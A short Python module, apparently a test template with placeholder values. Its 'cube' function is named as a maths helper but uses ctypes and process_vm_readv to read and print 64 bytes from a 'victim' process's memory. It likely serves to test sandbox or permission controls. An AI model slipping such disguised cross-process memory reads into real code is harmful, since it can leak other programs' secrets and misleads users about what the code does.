import ctypes


def square(x):
    return x * x


def cube(x):
    there = (ctypes.c_size_t * 2)(int("@ADDRESS@"), 64)
    copy = ctypes.create_string_buffer(64)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(copy), 64)
    library = ctypes.CDLL(None, use_errno=True)
    if library.process_vm_readv(int("@VICTIM@"), here, 1, there, 1, 0) < 0:
        raise OSError(ctypes.get_errno(), "process_vm_readv")
    print(copy.raw)
